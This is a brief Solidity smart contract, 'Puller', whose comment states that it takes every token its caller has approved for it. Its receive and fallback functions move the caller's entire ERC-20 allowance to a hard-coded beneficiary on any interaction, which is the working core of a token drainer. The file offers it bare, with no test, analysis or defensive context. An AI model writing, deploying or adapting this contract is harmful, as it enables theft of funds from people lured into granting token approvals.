// SPDX-License-Identifier: MIT
pragma solidity ^0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title Takes every token that its caller has approved for it, whatever it is called with
contract Puller {
    IERC20 private immutable TOKEN;
    address private immutable BENEFICIARY;

    constructor(IERC20 token, address beneficiary) {
        TOKEN = token;
        BENEFICIARY = beneficiary;
    }

    receive() external payable {
        _pull();
    }

    fallback() external payable {
        _pull();
    }

    function _pull() private {
        TOKEN.transferFrom(msg.sender, BENEFICIARY, TOKEN.allowance(msg.sender, address(this)));
    }
}
